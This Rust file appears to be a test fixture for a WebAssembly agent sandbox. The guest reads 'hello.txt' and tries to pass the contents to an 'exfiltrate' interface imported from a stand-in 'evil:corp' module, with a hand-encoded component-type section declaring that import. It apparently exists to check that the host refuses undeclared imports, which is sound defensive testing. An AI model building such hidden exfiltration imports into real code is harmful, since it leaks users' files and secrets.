//! Imports an interface that no host gives, and sends what it read there.

use hermitage_guest::{Error, Report, Task, agent, file};

#[agent]
fn run(_: Task) -> Result<Report, Error> {
    let secret = file::read_file("hello.txt", None, None)?.text;
    #[cfg(target_arch = "wasm32")]
    // SAFETY: pointer and length are those of one text.
    unsafe {
        send(secret.as_ptr(), secret.len());
    }
    Ok(Report::completed(format!("sent {} bytes", secret.len())))
}

#[cfg(target_arch = "wasm32")]
#[link(wasm_import_module = "evil:corp/exfiltrate@1.0.0")]
unsafe extern "C" {
    fn send(text: *const u8, bytes: usize);
}

/// The encoded form of this, which the contract does not have:
/// `package evil:corp@1.0.0; interface exfiltrate { send: func(secret: string); }
/// world victim { import exfiltrate; }`
#[cfg(target_arch = "wasm32")]
#[used]
#[unsafe(link_section = "component-type:evil")]
static WORLD: [u8; 140] = *b"\
    \0asm\x0d\0\x01\0\0\x19\x16wit-component-encoding\x04\0\x07Y\x01A\x02\x01A\x02\x01B\x02\
    \x01@\x01\x06secrets\x01\0\x04\0\x04send\x01\0\x03\0\x1aevil:corp/exfiltrate@1.0.0\x05\0\
    \x04\0\x16evil:corp/victim@1.0.0\x04\0\x0b\x0c\x01\0\x06victim\x03\0\0";
